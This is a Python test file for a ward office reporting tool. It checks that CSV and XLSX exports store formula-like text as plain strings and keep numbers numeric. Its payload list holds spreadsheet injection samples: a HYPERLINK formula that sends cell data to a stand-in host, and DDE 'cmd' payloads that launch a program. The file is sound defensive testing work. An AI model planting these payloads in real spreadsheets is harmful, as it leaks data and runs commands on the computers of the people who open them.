"""Exports are data, never formulas (issue 13 item 4).

A text a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR first) is written as
text in every CSV and XLSX the software makes; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from ward_desk.reports.cells import Table
from ward_desk.reports.export import render_assessment, render_report
from ward_desk.reports.xlsx import workbook_bytes

from ward_desk.domain.text import cell_text, csv_cell, runs_as_formula

PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "\uff1d1+1"]


def _xlsx_cells(blob: bytes) -> list:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(blob))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_xlsx_safe(blob: bytes, payloads: list[str]) -> None:
    cells = _xlsx_cells(blob)
    for payload in map(cell_text, payloads):  # a leading tab is whitespace, the "=" after it is not
        found = [c for c in cells if isinstance(c.value, str) and payload in c.value]
        assert found, payload
        for c in found:
            assert c.data_type == "s", (payload, c.data_type)  # a string, never a formula
            if runs_as_formula(c.value):
                assert c.quotePrefix, payload  # stays text when a clerk edits the cell
    import zipfile

    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in s for s in sheets), "a formula element was written"


def _assert_csv_safe(blob: bytes, payloads: list[str]) -> None:
    cells = [c for row in csv.reader(io.StringIO(blob.decode("utf-8-sig"))) for c in row]
    for c in cells:
        assert not runs_as_formula(c), c
    for payload in map(cell_text, payloads):
        assert any(payload in c for c in cells), payload  # written, as text (no cell above runs)


@pytest.fixture
def hostile_month(session, clock):
    """A month whose report and assessment carry formula-looking text in every text column
    that a clerk or an imported catalogue can fill: field names, evidence."""
    from tests.reports.helpers import intake, local, resolve
    from ward_desk.services.catalogue import ProcedureRow, upsert_procedures

    with session.store.db.atomic():
        for i, payload in enumerate(PAYLOADS[:4]):
            upsert_procedures([ProcedureRow(f"XX.0{i}", f"Thủ tục {i}", payload, 3)], datetime(2026, 1, 1))
    for i in range(4):
        d = intake(session, clock, local(2026, 2, 2 + i, 9), procedure=f"XX.0{i}")
        resolve(session, clock, d.code, local(2026, 2, 3 + i, 15), returned=True, rating="satisfied")
    clock.now = local(2026, 3, 3, 9)
    return session


def test_monthly_report_csv_and_xlsx(hostile_month) -> None:
    from ward_desk.domain.report_math import Period
    from ward_desk.services.reporting import period_report

    report = period_report(hostile_month, Period.month(2026, 2))
    _assert_csv_safe(render_report(report, "csv"), PAYLOADS[:4])
    blob = render_report(report, "xlsx")
    _assert_xlsx_safe(blob, PAYLOADS[:4])
    # Numbers stay numbers: the totals row is numeric in both.
    totals = [c for c in _xlsx_cells(blob) if isinstance(c.value, int)]
    assert totals and all(c.data_type == "n" for c in totals)
    rows = list(csv.reader(io.StringIO(render_report(report, "csv").decode("utf-8-sig"))))
    assert any(cell.isdigit() for row in rows for cell in row)


def test_self_assessment_evidence(hostile_month) -> None:
    from ward_desk.services import assessment as A
    from ward_desk.services.users import insert_user

    session = hostile_month
    with session.store.db.atomic():
        session.user = insert_user("lanhdao", "Phạm Thị Lãnh Đạo", "leader", datetime(2026, 3, 1))
    pending = A.show(session, "2026-02").pending
    used = PAYLOADS[: len(pending)]
    for item_id, payload in zip(pending, used, strict=False):
        A.score_manual(session, "2026-02", item_id, "3", payload)
    view = A.show(session, "2026-02")
    _assert_csv_safe(render_assessment(view, "=Phường", "csv"), used)
    _assert_xlsx_safe(render_assessment(view, "=Phường", "xlsx"), [*used, "=Phường"])


def test_district_tables(tmp_path: Path) -> None:
    """The district's XLSX tables (wards, overdue, ranking) go through the same writer:
    a ward may name itself anything."""
    table = Table(title="Xếp hạng", header=["Mã", "Phường", "Điểm"],
                  rows=[["22918", p, 87] for p in PAYLOADS] + [["22919", "Phường Thường", -3]], total=None)
    blob = workbook_bytes(["=Tỉnh"], [table])
    _assert_xlsx_safe(blob, [*PAYLOADS, "=Tỉnh"])
    negative = [c for c in _xlsx_cells(blob) if c.value == -3]
    assert negative and negative[0].data_type == "n"


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(max_size=40), st.sampled_from(PAYLOADS), st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_one_rule_for_every_cell(value) -> None:
    out = csv_cell(value)
    if isinstance(value, str):
        assert not runs_as_formula(out)
        assert out in (value, cell_text(value), "'" + cell_text(value))
    else:
        assert out == value  # numbers stay numbers
    blob = workbook_bytes([], [Table(title="T", header=["x"], rows=[[value]], total=None)])  # never refused
    cells = [c for c in _xlsx_cells(blob) if c.row > 2]
    if isinstance(value, str) and cell_text(value):
        assert ([c.data_type for c in cells] == ["s"] and not runs_as_formula(cells[0].value)) or cells[0].quotePrefix
    elif not isinstance(value, str):
        assert [c.data_type for c in cells] == ["n"]


def test_signed_numbers_in_text_stay_numbers() -> None:
    for text in ("-5", "+84912345678", "-0,5", "12%"):
        assert csv_cell(text) == text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_report_command_writes_the_same_safe_file(hostile_month, tmp_path: Path, fmt: str) -> None:
    from wd_testkit import ok, run_cli

    out = tmp_path / f"bao-cao.{fmt}"
    ok(run_cli("report", "monthly", "--month", "2026-02", "--format", fmt, "--out", out,
               "--data-dir", hostile_month.store.data_dir))
    check = _assert_csv_safe if fmt == "csv" else _assert_xlsx_safe
    check(out.read_bytes(), PAYLOADS[:4])
